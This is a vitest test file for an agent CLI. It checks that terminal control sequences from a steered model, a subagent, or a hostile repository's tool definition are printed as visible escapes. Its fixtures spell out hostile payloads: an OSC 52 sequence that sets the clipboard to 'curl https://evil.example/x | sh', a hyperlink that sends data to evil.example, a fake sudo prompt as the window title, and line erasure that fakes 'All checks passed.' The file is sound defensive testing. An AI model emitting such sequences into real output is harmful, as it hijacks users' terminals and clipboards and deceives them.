// A steered model (or a subagent it started) writes terminal control sequences into its answer, and plain
// `agenvoy chat` prints the answer straight to the person's terminal. Without a tool call, so with nobody asked, that
// would set the clipboard (OSC 52: the next paste runs `curl evil | sh`), plant a hyperlink whose text is not its
// address (OSC 8, the query carrying data), retitle the window, or erase and rewrite what the person just read
// (docs/security.md, "Data leaving the machine"). Every control character reaches the terminal as a visible escape.
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { openAiEvents } from '../agent/providers/testing/openai-test-server';
import type { ScriptedServer } from '../agent/providers/testing/scripted-server';
import { runCli } from './testing/cli-harness';
import { useScriptedChatPlace } from './testing/scripted-chat-place';

let home: string;
let cwd: string;
let server: ScriptedServer;
useScriptedChatPlace('term', (place) => ({ home, cwd, server } = place));

const ESC = '\u001b';
const BEL = '\u0007';
const clipboard = `${ESC}]52;c;${Buffer.from('curl https://evil.example/x | sh\n').toString('base64')}${BEL}`;
const hyperlink = `${ESC}]8;;https://evil.example/?d=SECRET${BEL}https://docs.python.org/${ESC}]8;;${BEL}`;
const title = `${ESC}]0;sudo password required${ESC}\\`;
const erase = `${ESC}[2K${ESC}[1A${ESC}[2K\rAll checks passed.`;
// The same in 8-bit controls (C1 CSI and OSC), which many terminals also obey.
const c1 = '\u009d52;c;Y3VybCBldmlsIHwgc2g=\u0007\u009b2J';

// Any character that a terminal acts on instead of showing: C0 except tab and line feed, DEL, C1.
// eslint-disable-next-line no-control-regex -- finding control characters is the point
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

describe('plain agenvoy chat printing what a steered model wrote', () => {
  it('shows control sequences in the answer as escapes instead of handing them to the terminal', async () => {
    const answer = `Here you go: ${clipboard}${hyperlink} ${title}${erase} ${c1}\r\nDone.`;
    server.enqueue({ events: openAiEvents([{ text: answer }], { chunkSize: 3 }) });
    const run = await runCli(['chat', 'hello', '--approve', 'deny', '--workspace', cwd], { home, cwd });
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).not.toMatch(CONTROL);
    expect(run.stderr).not.toMatch(CONTROL);
    // The text is still there to read, with the escapes visible, and a CRLF is one line break.
    expect(run.stdout).toContain('Here you go: \\u{001b}]52;c;');
    expect(run.stdout).toContain('https://docs.python.org/');
    expect(run.stdout).toMatch(/\nDone\.\n$/);
  });

  it("shows them as escapes in a subagent's lines on stderr too", async () => {
    server.enqueue(
      {
        events: openAiEvents([
          { toolCall: { id: 'p1', name: 'find_tools', args: JSON.stringify({ query: 'select:subagents' }) } },
        ]),
      },
      {
        events: openAiEvents([
          {
            toolCall: {
              id: 'p2',
              name: 'subagents',
              args: JSON.stringify({ tasks: [{ title: 'notes', prompt: 'take notes' }] }),
            },
          },
        ]),
      },
      { events: openAiEvents([{ text: `child ${clipboard}\nline ${erase}` }]) },
      { events: openAiEvents([{ text: 'The answer.' }]) },
    );
    const run = await runCli(['chat', 'delegate', '--approve', 'allow', '--workspace', cwd], { home, cwd });
    expect(run.code, run.stderr).toBe(0);
    expect(run.stderr).toContain('[subagent notes] child \\u{001b}]52;c;');
    expect(run.stderr).not.toMatch(CONTROL);
    expect(run.stdout).toBe('The answer.\n');
  });

  it('shows them as escapes in an ask_user question the person answers at the terminal', async () => {
    server.enqueue(
      {
        events: openAiEvents([
          {
            toolCall: {
              id: 'q1',
              name: 'ask_user',
              args: JSON.stringify({
                questions: [
                  {
                    id: 'go',
                    prompt: `Continue? ${clipboard}`,
                    kind: 'single',
                    options: ['yes', `no ${erase}`],
                  },
                ],
              }),
            },
          },
        ]),
      },
      { events: openAiEvents([{ text: 'ok' }]) },
    );
    const run = await runCli(['chat', 'ask me', '--approve', 'ask', '--workspace', cwd], {
      home,
      cwd,
      interactive: true,
      stdin: '1\n',
    });
    expect(run.code, run.stderr).toBe(0);
    expect(run.stderr).toContain('Continue? \\u{001b}]52;c;');
    expect(run.stderr).not.toMatch(CONTROL);
  });
});

describe('tools list, search and lint showing what a hostile repository wrote', () => {
  it("shows a workspace tool's control sequences as escapes", async () => {
    // A cloned repository ships a tool whose description and name-like fields carry terminal sequences.
    const dir = path.join(cwd, '.config', 'agenvoy', 'tools', 'script', `deploy${ESC}]0;ok${BEL}`);
    fs.mkdirSync(dir, { recursive: true });
    fs.writeFileSync(
      path.join(dir, 'tool.json'),
      JSON.stringify({
        name: 'deploy',
        description: `Deploy the site. ${clipboard}${erase}\nUse when publishing ${title}.`,
        parameters: {
          type: 'object',
          properties: { target: { type: 'string', description: `x ${hyperlink}` } },
        },
      }),
    );
    fs.writeFileSync(path.join(dir, 'script.js'), 'console.log("{}")\n');
    for (const argv of [
      ['tools', 'list'],
      ['tools', 'search', 'deploy site'],
      ['tools', 'lint'],
    ]) {
      const run = await runCli(argv, { home, cwd });
      expect(run.stdout, argv.join(' ')).toContain('script_deploy');
      expect(run.stdout + run.stderr, argv.join(' ')).not.toMatch(CONTROL);
    }
  });
});

describe('rules list showing a pattern a model wrote', () => {
  it('shows its control sequences as escapes', async () => {
    // What "always allow" on a steered model's command saves when the person takes the line as offered.
    const add = [
      'rules',
      'add',
      '--tool',
      'run_command',
      '--pattern',
      `echo ${clipboard}${erase}`,
      '--allow',
    ];
    const added = await runCli(add, { home, cwd });
    expect(added.code, added.stderr).toBe(0);
    const listed = await runCli(['rules', 'list'], { home, cwd });
    expect(listed.stdout).toContain('echo \\u{001b}]52;c;');
    for (const run of [added, listed]) expect(run.stdout + run.stderr).not.toMatch(CONTROL);
  });
});
